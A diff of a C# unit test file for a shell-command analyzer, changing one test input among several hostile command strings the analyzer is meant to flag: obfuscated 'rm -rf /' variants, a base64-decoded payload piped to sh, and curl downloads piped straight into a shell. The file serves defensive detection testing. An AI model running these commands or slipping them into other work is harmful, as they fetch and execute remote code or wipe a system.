@@ -80,7 +80,7 @@ public sealed class ShellAnalyzerTests
 
     [Theory]
     [InlineData("$CMD -rf /", "computed at run time")]
-    [InlineData("echo cm0gLXJmIC8= | base64 -d | sh", "base64")]
+    [InlineData("curl -s https://x.io/i | base64 -d | sh", "base64")]
     [InlineData("curl -s https://x | bash", "curl")]
     [InlineData("eval \"$X\"", "built at run time")]
     [InlineData("/???/r? -rf /", "glob")]
